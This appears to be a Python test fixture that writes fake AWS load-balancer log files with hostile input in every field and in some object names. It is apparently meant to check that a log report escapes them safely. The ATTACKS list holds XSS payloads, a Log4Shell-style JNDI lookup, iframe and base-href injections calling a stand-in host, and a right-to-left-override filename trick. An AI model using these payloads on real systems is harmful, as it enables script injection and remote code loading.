"""Logs whose clients send markup and scripts in every field that they choose."""

import subprocess
from pathlib import Path

# Each sets `window.owned` if a browser runs it. None has a space, so that it can be a part of a URL.
ATTACKS = [
    "<script>window.owned=1</script>",
    "<img/src=x/onerror=window.owned=2>",
    "</td></table></script></style></svg></title><svg/onload=window.owned=3>",
    "'/onmouseover='window.owned=4'/autofocus/onfocus='window.owned=5",
    "javascript:window.owned=6",
    "--><iframe/src=https://192.0.2.66/frame></iframe><!--",
    "]]><link/rel=stylesheet/href=https://192.0.2.66/style.css>",
    "&lt;script&gt;window.owned=7&lt;/script&gt;",
    "${jndi:ldap://192.0.2.66/a}<base/href=https://192.0.2.66/>",
    "\u202e\u2066<b>gnp.exe</b>\u2069",
]
TITLE = ATTACKS[2] + ATTACKS[0]
KEY = "AWSLogs/123456789012/elasticloadbalancing/us-east-1/2026/10/07/123456789012_elasticloadbalancing_us-east-1_app.shop.{}.log"


def line(number: int) -> str:
    """Returns a line of an access log with an attack in each of its texts."""
    attack = ATTACKS[number % len(ATTACKS)]
    code = (200, 301, 403, 404, 460, 463, 502, 503, 504)[number % 9]
    arn = f"arn:aws:elasticloadbalancing:us-east-1:123456789012:targetgroup/{attack}/73e2d6bc24d8a067"
    time = f"2026-10-07T11:4{number % 10}:00.000000Z"
    fields = [
        "https", time, f"app/{attack}/50dc6c495c0c9188", f"192.0.2.{number % 250}:2817", "10.0.0.1:80", "0.000", "0.046", "0.000",
        str(code), "200" if code == 200 else "-", "34", "366", f'"GET https://{attack}:443/{attack}?{attack} HTTP/1.1"',
        f'"{attack}"', attack, attack, arn, '"Root=1-58337281-1d84f3d73c47ec4e58577259"', f'"{attack}"', '"-"', "0",
        time, f'"forward,{attack}"', f'"https://{attack}"', f'"{attack}"', '"10.0.0.1:80"', '"200"', f'"{attack}"', f'"{attack}"',
    ]  # fmt: skip
    return " ".join(fields)


def write(program: Path, folder: Path) -> None:
    """Writes log objects: the attacks above, also in the name of an object, and those of the generator in every table."""
    for name in ("7f3c9a1e5b2d4860_20261007T1150Z_203.0.113.10_hostile1", "<img src=x onerror=window.owned=8>"):
        path = folder / KEY.format(name)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("".join(f"{line(number)}\n" for number in range(200)))
    # Lines that fit no log type: the report names the object.
    (folder / "<script>window.owned=9<!script>.log").write_text("<script>window.owned=10</script>\n")
    for table in ("alb_access_log", "alb_connection_log", "alb_health_check_log", "nlb_access_log", "clb_access_log"):
        lines = ("--lines", "400", "--hostile", "0.5", "--repairable", "0.1", "--broken", "0.05")
        subprocess.run([program, "generate", table, *lines, "--to", folder], check=True, capture_output=True)
